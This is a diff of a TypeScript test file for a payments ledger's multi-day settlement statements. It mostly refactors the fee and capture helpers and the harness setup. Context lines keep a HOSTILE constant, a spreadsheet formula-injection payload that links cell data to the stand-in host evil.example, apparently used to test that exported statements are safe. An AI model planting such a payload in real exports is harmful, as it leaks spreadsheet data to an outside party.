@@ -1,12 +1,10 @@
-import { createApiHarness, createSecondMerchant, expectProblem, type ApiHarness } from '../helpers/api';
+import { useApiHarness, createSecondMerchant, expectProblem } from '../helpers/api';
 import { dialectName } from '../helpers/db';
-import { expectLedgerInvariant } from '../helpers/ledger';
+import { cardPaymentFees, expectLedgerInvariant, postDirectCapture } from '../helpers/ledger';
 import { operatorContext } from '../../src/services/access/operators';
 import { inTransaction, type CallerContext } from '../../src/domain/context';
-import { resolveFees } from '../../src/services/fees/schedules';
 import { balancesOf } from '../../src/services/ledger/balances';
 import { post } from '../../src/services/ledger/post';
-import { postCapture } from '../../src/services/ledger/postings/capture';
 import { postRefund } from '../../src/services/ledger/postings/refund';
 import { postWithdrawal } from '../../src/services/ledger/postings/withdrawal';
 import { releaseDue } from '../../src/services/ledger/releases';
@@ -31,7 +29,6 @@ import { openSession, completeWithCard } from '../helpers/money';
 const DAY = 86_400_000;
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me"), +SUM(1;2)';
 
-let h: ApiHarness;
 let tenant: CallerContext;
 let platform: CallerContext;
 let m1: string;
@@ -68,30 +65,17 @@ type Statement = {
 };
 
 async function capture(merchantId: string, currency: string, amount: number, options: { reserve?: number; immediate?: boolean } = {}) {
-  const b = await resolveFees(tenant, {
-    type: 'payment',
-    outcome: 'successful',
-    amount: money(currency, amount),
-    method: 'card',
-    merchantId,
-    at: h.clock.now(),
-  });
+  const b = await cardPaymentFees(tenant, merchantId, money(currency, amount), h.clock.now());
   const breakdown = options.reserve
     ? { ...b, reserve: options.reserve, reserveFrom: { ...(b.reserveFrom ?? {}), autoRelease: true, holdDays: 1 } as never }
     : b;
-  const paymentId = newId();
-  await inTransaction(tenant, (t) =>
-    postCapture(t, {
-      tenantId: h.sandbox.tenantId,
-      livemode: false,
-      merchantId,
-      paymentId,
-      providerIntegrationId,
-      partnerId: null,
-      breakdown,
-      availableImmediately: options.immediate ?? false,
-    }),
-  );
+  const paymentId = await postDirectCapture(tenant, {
+    tenantId: h.sandbox.tenantId,
+    merchantId,
+    providerIntegrationId,
+    breakdown,
+    immediate: options.immediate,
+  });
   return { paymentId, breakdown };
 }
 
@@ -178,8 +162,8 @@ let day1: string;
 let dispute: string;
 let paymentViaApi: string;
 
+const h = useApiHarness({ config: { sandboxDelayMs: 0 } });
 beforeAll(async () => {
-  h = await createApiHarness({ config: { sandboxDelayMs: 0 } });
   tenant = operatorContext(h.rt, { level: 'tenant', tenantId: h.sandbox.tenantId, livemode: false });
   platform = operatorContext(h.rt, { level: 'platform', tenantId: null, livemode: false });
   m1 = h.sandbox.merchantId;
@@ -192,7 +176,6 @@ beforeAll(async () => {
     })
   ).secretKey;
 }, 60_000);
-afterAll(() => h.close());
 
 describe(`settlement statements over several days (${dialectName})`, () => {
   it("day 1: the first movement opens the day's statement at once (a payment through the API)", async () => {
